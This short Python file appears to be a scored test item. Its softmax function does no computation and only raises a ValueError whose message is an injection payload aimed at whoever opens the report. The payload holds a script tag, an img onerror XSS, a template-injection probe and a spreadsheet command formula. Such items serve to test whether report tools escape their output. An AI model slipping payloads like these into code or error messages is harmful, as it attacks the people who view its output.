"""Raises an error whose words are a page with a script, for whoever opens the report."""

KIND = "words"
WORTH = 20
CAUGHT = "raised"


def softmax(scores):
    raise ValueError(
        "</pre><script>document.title = 'mine'</script><img src=x onerror=alert(1)>{{7*7}}=cmd|'/c calc'!A1"
    )
